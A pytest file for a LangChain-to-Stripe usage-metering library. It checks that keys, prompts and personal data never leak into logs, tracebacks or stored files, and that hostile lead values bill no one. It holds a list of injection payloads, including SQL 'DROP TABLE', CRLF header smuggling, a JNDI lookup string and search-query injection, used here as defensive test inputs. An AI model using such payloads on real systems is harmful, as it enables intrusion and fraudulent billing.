"""What must never be seen: keys, prompts, people, sessions. Unique values go every way, and all output is searched."""

from __future__ import annotations

import asyncio
import io
import logging
import pickle
import traceback
from collections.abc import Iterator
from contextlib import suppress
from decimal import Decimal
from pathlib import Path
from typing import Any

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from langchain_core.language_models import GenericFakeChatModel
from langchain_core.messages import AIMessage
from typer.testing import CliRunner

from langchain_stripe_meter import (
    MeteringSettings,
    StripeMeterCallbackHandler,
    Tokens,
    first_of,
    from_lead,
    from_metadata,
    static,
)
from langchain_stripe_meter.cli import app
from langchain_stripe_meter.core.customers import Facts
from langchain_stripe_meter.core.references import Reference, normalise
from langchain_stripe_meter.core.states import ReadingState
from langchain_stripe_meter.errors import ConfigurationError, MeteringError
from langchain_stripe_meter.gateway.client import Gateway
from langchain_stripe_meter.ledger.store import Entry, Ledger
from langchain_stripe_meter.sandbox import StripeSandbox, refuse

KEY = "sk_test_canary0key0123456789"
MAIL, NAME, PHONE = "canary.mail@example.com", "Canary Nameson", "+4930901825"
PROMPT, ANSWER, SESSION = "canary-prompt", "canary-answer", "canary-session-token"
PEOPLE = [MAIL, "canary.mail", NAME, PHONE, "901825"]
ALWAYS = [KEY, "canary0key", PROMPT, ANSWER]
"""What must be nowhere, in no file either."""
USAGE = {"input_tokens": 10, "output_tokens": 5, "total_tokens": 15}


@pytest.fixture
def log(monkeypatch: pytest.MonkeyPatch) -> Iterator[io.StringIO]:
    """Everything that anybody logs at any level, with tracebacks."""
    stream = io.StringIO()
    handler = logging.StreamHandler(stream)
    handler.setFormatter(logging.Formatter("%(name)s %(levelname)s %(message)s"))
    root = logging.getLogger()
    root.addHandler(handler)
    loud = ["", "stripe", "urllib3", "sqlalchemy", "langchain_core", "langchain_stripe_meter", "asyncio", "alembic"]
    for name in loud:
        monkeypatch.setattr(logging.getLogger(name), "level", logging.DEBUG)
    logging.getLogger().manager._clear_cache()  # type: ignore[attr-defined]
    yield stream
    root.removeHandler(handler)
    monkeypatch.undo()
    logging.getLogger().manager._clear_cache()  # type: ignore[attr-defined]


@pytest.fixture
def sandbox() -> Iterator[StripeSandbox]:
    with StripeSandbox(api_key=KEY) as sandbox:
        sandbox.create_meter("tokens")
        yield sandbox


@pytest.fixture(params=["sqlite", "postgresql"])
def url(request: pytest.FixtureRequest, tmp_path: Path) -> str:
    if request.param == "postgresql":
        return str(request.getfixturevalue("postgres_url"))
    return f"sqlite:///{tmp_path}/l.db"


def seen(text: str | bytes, *canaries: str) -> list[str]:
    data = text.encode() if isinstance(text, str) else text
    return [one for one in canaries if one.encode() in data]


def files(folder: Path) -> bytes:
    return b"".join(file.read_bytes() for file in sorted(folder.glob("l.db*")))


class Broken(GenericFakeChatModel):
    """Fails with a text that quotes its prompt."""

    def _generate(self, *args: Any, **kwargs: Any) -> Any:
        raise RuntimeError("the model failed")


def make(url: str, sandbox: StripeSandbox, by: Any = "email", **options: Any) -> StripeMeterCallbackHandler:
    client = Gateway(KEY, api_base=sandbox.url).client
    source = first_of(from_metadata("cid"), from_lead(by))
    return StripeMeterCallbackHandler(
        Tokens("tokens"), **{"customer": source, "ledger": url, "stripe": client, "clock": sandbox.now, **options}
    )


def chat(handler: StripeMeterCallbackHandler, **metadata: Any) -> None:
    config: Any = {"callbacks": [handler], "metadata": {"session_id": SESSION, **metadata}}
    message = AIMessage(ANSWER, usage_metadata=USAGE)  # type: ignore[arg-type]
    GenericFakeChatModel(messages=iter([message])).invoke(PROMPT, config)
    asyncio.run(GenericFakeChatModel(messages=iter([message])).ainvoke(PROMPT, config))
    list(GenericFakeChatModel(messages=iter([message])).stream(PROMPT, config))
    with suppress(RuntimeError):
        Broken(messages=iter([])).invoke(PROMPT, config)


def go_every_way(url: str, sandbox: StripeSandbox) -> list[str]:
    """Skipped, refused, held, looked up, created, rejected, broken. Returns what was shown or raised."""
    shown: list[str] = []

    def tell(error: MeteringError) -> None:
        shown.append(f"{error!r} {error}")

    for by, value in (("email", MAIL), ("name", NAME), ("phone", PHONE)):
        with make(url, sandbox, by, on_error=tell) as handler:
            chat(handler)
            chat(handler, lead={by: value})
            with suppress(Exception):
                handler.leads.capture(SESSION, **{by: f"{value}\0"})
            handler.leads.capture(SESSION, **{by: value})
            chat(handler)
            sandbox.fail(refuse(400, message=f"Bad: {MAIL} {KEY}"), path="/v1/customers*", times=2)
            handler.flush(5)
            shown += [repr(handler), repr(handler.leads), repr(handler.status()), repr(handler.held()), str(handler)]
            shown += [repr(handler.skips()), repr(handler.customer), repr(vars(handler._recorder))]
            with suppress(TypeError, AttributeError):
                shown.append(repr(pickle.dumps(handler)))
    return shown


def test_nothing_that_is_logged_shown_or_stored_betrays_anybody(
    url: str, sandbox: StripeSandbox, log: io.StringIO, tmp_path: Path
) -> None:
    shown = go_every_way(url, sandbox)
    written = log.getvalue()
    assert "sqlalchemy" in written
    assert seen(written, *ALWAYS, *PEOPLE, SESSION) == []
    assert seen("\n".join(shown), *ALWAYS, *PEOPLE, SESSION) == []
    if not url.startswith("sqlite"):
        return
    assert seen(files(tmp_path), *ALWAYS) == []
    assert seen(files(tmp_path), MAIL, SESSION) == [MAIL, SESSION], "the lead and the name of what is held"
    runner = CliRunner()
    for command in (["status"], ["tail"], ["skips"], ["export"], ["export", "--json"], ["leads", "show-count"]):
        result = runner.invoke(app, [*command, "--ledger", url])
        assert result.exit_code == 0
        assert seen(result.output, *ALWAYS, *PEOPLE, SESSION) == [], command
    erased = runner.invoke(app, ["forget", "--ledger", url, "--session", SESSION])
    assert erased.exit_code == 0, erased.output
    assert seen(files(tmp_path), *ALWAYS, *PEOPLE, SESSION) == []
    assert seen(log.getvalue(), *ALWAYS, *PEOPLE, SESSION) == []


def test_a_customer_that_is_made_is_named_to_stripe_alone(
    url: str, sandbox: StripeSandbox, log: io.StringIO, tmp_path: Path
) -> None:
    with make(url, sandbox, create_missing=True) as handler:
        chat(handler, lead={"email": MAIL})
        assert handler.flush(60).pending == 0
    assert [customer.email for customer in sandbox._account.customers.all()] == [MAIL]
    assert seen(log.getvalue(), *ALWAYS, *PEOPLE, SESSION) == []
    if url.startswith("sqlite"):
        assert seen(files(tmp_path), *ALWAYS) == []


def test_what_breaks_says_so_without_quoting_anybody(url: str, sandbox: StripeSandbox, log: io.StringIO) -> None:
    """Also in a traceback with all its causes, which is what an operator pastes into a ticket."""
    told: list[str] = []

    def tell(error: MeteringError) -> None:
        told.append("".join(traceback.format_exception(error)))

    handler = make(url, sandbox, on_error=tell)
    handler.leads.capture(SESSION, email=MAIL)
    with handler._ledger.database.lane("record").transaction() as connection:
        connection.exec_driver_sql("ALTER TABLE readings RENAME COLUMN reference TO gone")
    chat(handler)
    assert told
    for act in (
        lambda: handler.leads.capture(SESSION, email="canary.mail"),
        lambda: handler.leads.capture(SESSION, phone="901825"),
        lambda: handler.leads.capture(f"{SESSION}\0", email=MAIL),
        lambda: handler.forget(email=MAIL),
        lambda: handler.record_usage({"input_tokens": 1}, id="j", customer=static(email=MAIL)),
        lambda: StripeMeterCallbackHandler(Tokens("t"), stripe=f"pk_{KEY}", ledger=url),
    ):
        with pytest.raises(MeteringError) as raised:
            act()
        told.append("".join(traceback.format_exception(raised.value, chain=True)))
    handler.close(0)
    ours = [line for text in told for line in text.splitlines() if not line.startswith("    ")]  # not source lines
    assert seen("\n".join(ours), *ALWAYS, *PEOPLE, SESSION) == []
    assert seen(log.getvalue(), *ALWAYS, *PEOPLE, SESSION) == []


def test_the_reprs_of_what_holds_people_hide_them() -> None:
    who = Reference("email", MAIL)
    settings = MeteringSettings.model_validate(
        {"meters": [{"kind": "tokens", "event_name": "t"}], "customer": {"source": "static", "email": MAIL}}
    )
    facts = Facts({"lead": {"email": MAIL}, "session_id": SESSION}, {"key": KEY}, {"name": NAME})
    entry = Entry("k", "t", Decimal(1), 1, ReadingState.SKIPPED, reference=who, session=SESSION)
    for one in (who, settings, settings.customer, facts, entry, static(email=MAIL), Gateway(KEY)):
        assert seen(f"{one!r} {one}", *ALWAYS, *PEOPLE, SESSION) == []


# -- what somebody may write into a lead

VICTIM = "Victoria Victim"
INJECTIONS = [
    "canary'; DROP TABLE readings; --",
    "canary' OR '1'='1",
    f'canary" OR name:"{VICTIM}',
    f'canary\\" OR name:"{VICTIM}',
    f'{VICTIM}" AND created>0 AND name:"{VICTIM}',
    'canary" OR -name:"nobody',
    'canary" OR metadata["vip"]:"yes',
    'canary" OR email~"victim',
    "canary*",
    "canary\r\nStripe-Account: acct_1Other",
    "canary\nX-Evil: 1",
    "canary\0victim",
    "canary\u202emitciV airotciV",
    "canary\u2066\u2069",
    "canary\ud800",
    "canary" + "\u0130" * 300,
    "canary" * 180_000,
    "${jndi:ldap://canary.example/a}",
    "{{canary}}%s%n",
    "<script>canary()</script>",
    f"{VICTIM} canary",
    VICTIM.upper(),
    "Victoria",
    f"\u200b{VICTIM}",
]


@pytest.mark.parametrize("by", ["email", "name", "phone"])
def test_injections_bill_nobody_and_are_not_logged(url: str, sandbox: StripeSandbox, log: io.StringIO, by: Any) -> None:
    victims = {"email": "victim@example.com", "name": VICTIM, "phone": "+4930901820"}
    victim = sandbox.create_customer(**victims, metadata={"vip": "yes"})
    with make(url, sandbox, by) as handler:
        for number, value in enumerate(INJECTIONS):
            metadata: Any = {"session_id": f"s{number}", "lead": {by: value}}
            handler.record_usage({"input_tokens": 1}, id=f"typed-{number}", metadata=metadata)
            with suppress(ConfigurationError):
                handler.leads.capture(f"s{number}", **{by: value}, bill_from="first_message")
            handler.record_usage({"input_tokens": 1}, id=f"captured-{number}", metadata={"session_id": f"s{number}"})
        report = handler.flush(60)
        assert report.pending == 0
        assert sandbox.billed("tokens") == {}
        assert report.held + handler.status().skipped == 2 * len(INJECTIONS)
        handler.record_usage({"input_tokens": 1}, id="honest", metadata={"lead": {by: victims[by]}})
        assert handler.flush(60).pending == 0
        assert sandbox.billed("tokens") == {victim: 1}
    assert seen(log.getvalue(), "canary", "airotciV", "\u0130\u0130") == []
    headers = [value for one in sandbox.requests for name, value in one.headers.items() if name != "authorization"]
    assert headers
    assert not any("canary" in value for value in headers)


_NASTY = st.text(st.sampled_from("abAB \"\\'~:*-<>()[]{}%_\u00e9\u0130\u0301\u202e\u200b\r\n\0"), max_size=12)
_OPERATOR = st.sampled_from([" OR ", " AND ", 'name:"', 'email~"', "created>0", "null", "-"])


@pytest.fixture(scope="module")
def crowd() -> Iterator[tuple[StripeSandbox, Gateway]]:
    with StripeSandbox() as sandbox:
        for name in ("ab", "a b", "AB", "ab ab", 'a"b', "a\\b", "a'b", "\u00e9", "null", "-a", "OR"):
            sandbox.create_customer(name=name)
        gateway = Gateway(sandbox.api_key, api_base=sandbox.url)
        yield sandbox, gateway
        gateway.close()


@settings(max_examples=200, suppress_health_check=[HealthCheck.too_slow, HealthCheck.function_scoped_fixture])
@given(st.one_of(_NASTY, st.lists(st.one_of(_NASTY, _OPERATOR), max_size=4).map("".join)))
def test_a_name_finds_exactly_its_own_customers_whatever_is_in_it(
    crowd: tuple[StripeSandbox, Gateway], text: str
) -> None:
    sandbox, gateway = crowd
    try:
        who = Reference("name", text)
    except ConfigurationError:
        return
    own = [one.id for one in sandbox._account.customers.all() if normalise("name", one.name) == who.value]
    assert sorted(gateway.find_customers(who)) == sorted(own)


def test_the_ledger_is_as_it_was_after_all_that(tmp_path: Path) -> None:
    """Values are bound, never written into a statement."""
    ledger = Ledger(f"sqlite:///{tmp_path}/l.db")
    for number, value in enumerate(INJECTIONS):
        with suppress(MeteringError):
            who = Reference("name", value)
            ledger.record([Entry(f"k{number}", "t", Decimal(1), 1, ReadingState.RECORDED, reference=who)])
    with ledger.read() as connection:
        kept = connection.exec_driver_sql("SELECT reference FROM readings").scalars().all()
    assert f"name:{INJECTIONS[0]}" in kept
    ledger.close()
